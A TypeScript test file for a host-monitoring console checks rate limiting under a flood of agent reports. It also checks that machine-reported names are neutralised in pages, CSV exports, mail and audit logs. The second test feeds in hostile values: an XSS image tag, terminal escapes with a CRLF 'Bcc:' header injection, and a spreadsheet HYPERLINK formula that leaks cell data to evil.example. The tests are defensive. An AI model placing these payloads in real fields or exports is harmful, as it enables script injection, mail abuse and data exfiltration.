import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest'
import {
  AddressesCard,
  DisksCard,
  SystemCard,
} from '@/app/(console)/infrastructure/hosts/_components/host-facts'
import { returnedMail } from '@/server/features/hosts/hosts.returned'
import { layOut } from '@/server/features/mail/mail.templates'
import { subjectOf } from '@/server/features/mail/mail.body'
import type { HostDetail } from '@/server/features/hosts/hosts.schema'
import { dispatch } from '@/server/http/dispatch'
import { call } from '@/server/sweep/call'
import { agentsOf, machineFacts } from '@/test/agent'
import { enrolmentToken, tenantId } from '@/test/factories'
import { createWorld, type World } from '@/test/world'

let world: World
let agents: ReturnType<typeof agentsOf>
beforeAll(async () => {
  world = await createWorld()
  agents = agentsOf(world)
})
afterAll(() => world.close())
beforeEach(() => world.restore())

/** Hosts with agents, planted: enrolling hundreds takes longer than what is asked here. */
async function fleet(count: number) {
  const many = Array.from({ length: count }, (_, n) => ({
    credential: `fha_${n.toString(36).padStart(43, 'A')}`,
    said: machineFacts(),
  }))
  await world.admin.query(
    `with h as (insert into resource (kind, name, owner_id, assigned_id)
       select 'host', x.machine, $1, $1 from unnest($2::text[]) x(machine) returning id, name),
     s as (insert into resource_state (resource_id) select h.id from h)
     insert into agent_credential (resource_id, token_hash, machine_id)
     select h.id, sha256(convert_to(x.secret, 'UTF8')), h.name from unnest($2::text[], $3::text[]) x(machine, secret) join h on h.name = x.machine`,
    [tenantId('A'), many.map(({ said }) => said.machine_id), many.map(({ credential }) => credential)],
  )
  return many
}

it('G15 hundreds of agents come back at once and all are taken; one that sends without pause is refused, and the others are taken meanwhile', async () => {
  const all = await fleet(300)
  const report = async ({ credential, said }: (typeof all)[number], seq: number) =>
    (await agents.post('report', credential, { ...said, seq })).status
  // Busy (503) is no refusal: an agent tries again within seconds.
  let left = all
  for (let round = 0; round < 8 && left.length > 0; round++) {
    const statuses = await Promise.all(left.map((one) => report(one, 1)))
    // 409: it was taken, and the answer lost.
    expect(statuses.filter((status) => ![200, 409, 503].includes(status))).toEqual([])
    left = left.filter((_, i) => statuses[i] === 503)
  }
  expect(left).toEqual([])

  const [flood, ...others] = all
  if (!flood) throw new Error('nobody')
  await world.admin.query(
    `update resource_state set last_seen_at = now() - interval '1 minute' where last_seen_at is not null`,
  )
  const flooding = (async () => {
    const statuses: number[] = []
    for (let seq = 2; seq < 1002; seq++) {
      statuses.push(await report(flood, seq))
      if (seq % 20 === 0) await new Promise((done) => setTimeout(done, 1))
    }
    return statuses
  })()
  const meanwhile = []
  for (const one of others.slice(0, 40)) meanwhile.push(await report(one, 2))
  expect(meanwhile).toEqual(Array<number>(40).fill(200))
  const statuses = await flooding
  expect(statuses.filter((status) => status !== 429).length).toBeLessThan(30)
})

const HOSTILE = '<img src=x onerror=alert(1)>\u001b[2J\r\nBcc: eve@evil.example'

it('G22 names that machines claim are inert in the page, the CSV file, mail and the log', async () => {
  const disks = [{ mount: HOSTILE, fs: HOSTILE, size: 2, used: 1 }]
  const addresses = [{ interface: HOSTILE, address: '10.0.0.1', family: 'ipv4' }]
  const facts = { os: { name: HOSTILE }, kernel: HOSTILE, virtualization: HOSTILE, disks, addresses }
  await world.admin.query('update enrolment_token set max_uses = 100')
  const formula = `=HYPERLINK("http://evil.example/?"&A1)`
  for (const hostname of [HOSTILE, formula, '@SUM(1+1)', '-2+3', '+1', `${HOSTILE},"x"`]) {
    const { credential, said, host } = await agents.enrolled({ hostname, ...facts }, enrolmentToken('A', 1))
    expect((await agents.post('report', credential, { ...said, seq: 1 })).status).toBe(200)
    await agents.post('goodbye', credential, '{}')
    const answer = await call(world, 'Ada', { name: 'hosts.get', type: 'query' }, { id: host })
    const detail = answer.data as HostDetail
    expect(JSON.stringify(detail)).not.toMatch(/\\u001b|\\r|\\n/)
    const { agent, facts: shown } = detail
    if (!shown) throw new Error('no facts')
    const page = [
      createElement(SystemCard, { facts: shown, agent }),
      createElement(DisksCard, { facts: shown }),
      createElement(AddressesCard, { facts: shown }),
    ]
      .map((card) => renderToStaticMarkup(card))
      .join('')
    expect(page).toContain('&lt;img src=x')
    expect(page).not.toMatch(/<img|\p{Cc}/u)
    const mail = returnedMail('mara@msp.example', detail.name, detail.name, {
      from: detail.name,
      ended: true,
      total: 1,
      names: [detail.name],
    })
    expect(subjectOf(mail)).not.toMatch(/\p{Cc}/u)
    expect(layOut(mail).html).not.toContain('<img src=x')
  }
  const csv = await dispatch(new Request('http://x/api/hosts/export.csv'), '/api/hosts/export.csv', {
    ...world.factsOf('Ada'),
    path: '/api/hosts/export.csv',
  })
  const lines = ((await csv?.text()) ?? '').trimEnd().split('\r\n')
  expect(lines.length).toBeGreaterThan(6)
  for (const line of lines) {
    expect(line).not.toMatch(/\p{Cc}/u)
    // No cell begins as a formula does.
    expect(line).not.toMatch(/(^|,)"?[=+@-](?!\d+(,|$))/)
  }
  const { rows } = await world.admin.query<{ target_name: string }>(
    `select target_name from audit_event where tenant_id = $1 and event in ('host.enrol', 'host.agent_removed')`,
    [tenantId('A')],
  )
  expect(rows.length).toBeGreaterThan(11)
  for (const { target_name } of rows) expect(target_name).not.toMatch(/\p{Cc}/u)
})
